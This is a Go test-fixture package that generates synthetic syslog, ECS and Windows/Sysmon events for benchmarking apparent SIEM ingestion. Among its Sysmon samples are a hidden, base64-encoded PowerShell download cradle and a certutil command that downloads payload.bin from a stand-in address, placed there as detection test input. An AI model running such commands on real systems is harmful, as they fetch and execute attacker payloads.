// Package eventmix writes the events of a small, made-up fleet as shippers
// send them to POST /v1/events, one NDJSON line each: sshd, sudo and other
// syslog lines, ECS JSON from Beats agents, and Windows Security and Sysmon
// events as winlogbeat ships them. Benchmarks and tests use it for input
// that looks like production; nothing in Vigil itself imports it.
package eventmix

import (
	"bytes"
	"encoding/json"
	"fmt"
	"time"
)

// BruteForcer is the address that guesses root's sshd password in every
// mix: one failure in ten comes from it.
const BruteForcer = "203.0.113.66"

// NDJSON returns events first … first+n-1 of the mix, spread over the
// minute after start, one per line. Event i of an ECS kind carries the
// producer id idPrefix-i, so batches of distinct ranges are distinct to
// ingest; the scattered addresses repeat only every 131,072 events.
func NDJSON(first, n int, start time.Time, idPrefix string) []byte {
	var buf bytes.Buffer
	for k := range n {
		i := first + k
		buf.WriteString(Line(i, start.Add(time.Duration(k)*time.Minute/time.Duration(max(n, 1))), fmt.Sprintf("%s-%d", idPrefix, i)))
		buf.WriteByte('\n')
	}
	return buf.Bytes()
}

// Line returns event i of the mix at ts; id is the producer id an ECS event
// carries. Of every ten events four are syslog lines (sshd failures from
// scattered addresses and from BruteForcer, an accepted sshd key, a sudo
// session), three ECS JSON (a login, a process start, a network flow) and
// three Windows events (4625, 4624, Sysmon process creation; one process
// creation in fifty is an encoded PowerShell command, another a certutil
// download).
func Line(i int, ts time.Time, id string) string {
	ts = ts.UTC()
	ip := fmt.Sprintf("198.%d.%d.%d", 18+(i>>16)&1, (i>>8)&255, i&255)
	host := fmt.Sprintf("web-%02d", i%40)
	user := []string{"admin", "oracle", "test", "ubuntu", "git", "postgres"}[i%6]
	syslog := func(program, text string) string {
		line := fmt.Sprintf("<38>%s %s %s[%d]: %s", ts.Format(time.Stamp), host, program, 20000+i%5000, text)
		b, _ := json.Marshal(map[string]string{"message": line})
		return string(b)
	}
	rfc := ts.Format(time.RFC3339Nano)
	switch i % 10 {
	case 0:
		return syslog("sshd", fmt.Sprintf("Failed password for invalid user %s from %s port %d ssh2", user, ip, 40000+i%20000))
	case 1:
		return syslog("sshd", fmt.Sprintf("Failed password for root from %s port %d ssh2", BruteForcer, 40000+i%20000))
	case 2:
		return syslog("sshd", fmt.Sprintf("Accepted publickey for deploy from 10.0.%d.%d port %d ssh2: ED25519 SHA256:3q2+7w8Ykq0yJdLQ0fYl0Yx0c5JvYF3l6Vt8fN1Zr9c", i%8, 1+i%200, 50000+i%10000))
	case 3:
		return syslog("sudo", fmt.Sprintf("pam_unix(sudo:session): session opened for user root(uid=0) by %s(uid=1000)", user))
	case 4:
		return fmt.Sprintf(`{"@timestamp":%q,"event":{"id":%q,"kind":"event","category":["authentication"],"type":["start"],"action":"user_login","outcome":%q,"dataset":"app.auth"},"source":{"ip":%q,"port":%d},"user":{"name":%q},"host":{"name":%q,"os":{"type":"linux"}},"service":{"name":"portal"},"message":"login attempt"}`,
			rfc, id, []string{"success", "failure"}[i%2], ip, 40000+i%20000, user, host)
	case 5:
		return fmt.Sprintf(`{"@timestamp":%q,"event":{"id":%q,"kind":"event","category":["process"],"type":["start"],"action":"exec"},"process":{"pid":%d,"executable":"/usr/bin/curl","name":"curl","args":["curl","-s","https://updates.example.com/v1/check"],"command_line":"curl -s https://updates.example.com/v1/check","parent":{"pid":%d,"executable":"/bin/bash","name":"bash"}},"user":{"name":"deploy"},"host":{"name":%q,"os":{"type":"linux"}},"agent":{"type":"auditbeat","version":"8.14.0"}}`,
			rfc, id, 30000+i%30000, 2000+i%1000, host)
	case 6:
		return fmt.Sprintf(`{"@timestamp":%q,"event":{"id":%q,"kind":"event","category":["network"],"type":["connection","start"],"action":"network_flow"},"source":{"ip":"10.0.%d.%d","port":%d},"destination":{"ip":%q,"port":443},"network":{"transport":"tcp","direction":"egress"},"host":{"name":%q},"agent":{"type":"packetbeat","version":"8.14.0"}}`,
			rfc, id, i%8, 1+i%200, 40000+i%20000, ip, host)
	case 7:
		return fmt.Sprintf(`{"@timestamp":%q,"event":{"code":"4625","kind":"event","provider":"Microsoft-Windows-Security-Auditing"},"host":{"name":"DC01.corp.example"},"winlog":{"channel":"Security","event_id":"4625","provider_name":"Microsoft-Windows-Security-Auditing","computer_name":"DC01.corp.example","record_id":"%d","keywords":["Audit Failure"],"event_data":{"SubjectUserSid":"S-1-0-0","SubjectUserName":"-","SubjectDomainName":"-","SubjectLogonId":"0x0","TargetUserSid":"S-1-0-0","TargetUserName":%q,"TargetDomainName":"CORP","Status":"0xc000006d","FailureReason":"%%%%2313","SubStatus":"0xc000006a","LogonType":"3","LogonProcessName":"NtLmSsp ","AuthenticationPackageName":"NTLM","WorkstationName":"WS%03d","TransmittedServices":"-","LmPackageName":"-","KeyLength":"0","ProcessId":"0x0","ProcessName":"-","IpAddress":%q,"IpPort":"0"}}}`,
			rfc, 880000+i, user, i%300, ip)
	case 8:
		return fmt.Sprintf(`{"@timestamp":%q,"event":{"code":"4624","kind":"event","provider":"Microsoft-Windows-Security-Auditing"},"host":{"name":"DC01.corp.example"},"winlog":{"channel":"Security","event_id":"4624","provider_name":"Microsoft-Windows-Security-Auditing","computer_name":"DC01.corp.example","record_id":"%d","keywords":["Audit Success"],"event_data":{"SubjectUserSid":"S-1-5-18","SubjectUserName":"DC01$","SubjectDomainName":"CORP","SubjectLogonId":"0x3e7","TargetUserSid":"S-1-5-21-3623811015-3361044348-30300820-1104","TargetUserName":"alice","TargetDomainName":"CORP","TargetLogonId":"0x8f2a4c1","LogonType":"3","LogonProcessName":"Kerberos","AuthenticationPackageName":"Kerberos","WorkstationName":"-","ProcessId":"0x0","ProcessName":"-","IpAddress":"10.0.%d.%d","IpPort":"0"}}}`,
			rfc, 880000+i, i%8, 1+i%200)
	default:
		return sysmonProcess(i, ts, process(i))
	}
}

// sysmonProc is what a Sysmon process creation says about the process.
type sysmonProc struct {
	image, originalFile, commandLine, parentImage, parentCommandLine, integrity string
}

const chrome = `C:\Program Files\Google\Chrome\Application\chrome.exe`

func process(i int) sysmonProc {
	switch i % 50 {
	case 9:
		return sysmonProc{
			image: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, originalFile: "PowerShell.EXE",
			commandLine: `powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA`,
			parentImage: `C:\Windows\explorer.exe`, parentCommandLine: `C:\Windows\Explorer.EXE`, integrity: "Medium",
		}
	case 29:
		return sysmonProc{
			image: `C:\Windows\System32\certutil.exe`, originalFile: "CertUtil.exe",
			commandLine: `certutil.exe -urlcache -split -f http://198.51.100.9/payload.bin C:\Users\Public\p.bin`,
			parentImage: `C:\Windows\System32\cmd.exe`, parentCommandLine: `cmd.exe /c update.bat`, integrity: "Medium",
		}
	}
	return sysmonProc{
		image: chrome, originalFile: "chrome.exe",
		commandLine: `"` + chrome + `" --type=renderer --lang=en-US --num-raster-threads=4`,
		parentImage: chrome, parentCommandLine: `"` + chrome + `"`, integrity: "Low",
	}
}

func sysmonProcess(i int, ts time.Time, p sysmonProc) string {
	data := map[string]any{
		"RuleName": "-", "UtcTime": ts.Format("2006-01-02 15:04:05.000"),
		"ProcessGuid": "{0f3e8a21-7c11-6745-2a01-000000000700}", "ProcessId": fmt.Sprint(6000 + i%3000),
		"Image": p.image, "OriginalFileName": p.originalFile, "CommandLine": p.commandLine,
		"CurrentDirectory": `C:\Users\alice\`, "User": `CORP\alice`, "LogonId": "0x3E3A1", "TerminalSessionId": "1",
		"IntegrityLevel": p.integrity, "Hashes": "SHA256=DE96A6E69944335375DC1AC238336066889D9FFC7D73628EF4FE1B1B160AB32C",
		"ParentProcessGuid": "{0f3e8a21-6a05-6745-4b00-000000000700}", "ParentProcessId": "4312",
		"ParentImage": p.parentImage, "ParentCommandLine": p.parentCommandLine, "ParentUser": `CORP\alice`,
	}
	host := fmt.Sprintf("WS%03d.corp.example", i%300)
	b, _ := json.Marshal(map[string]any{
		"@timestamp": ts.Format(time.RFC3339Nano),
		"event":      map[string]any{"code": "1", "kind": "event", "provider": "Microsoft-Windows-Sysmon"},
		"host":       map[string]any{"name": host},
		"winlog": map[string]any{
			"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": "1", "provider_name": "Microsoft-Windows-Sysmon",
			"computer_name": host, "record_id": fmt.Sprint(1184377 + i), "event_data": data,
		},
	})
	return string(b)
}
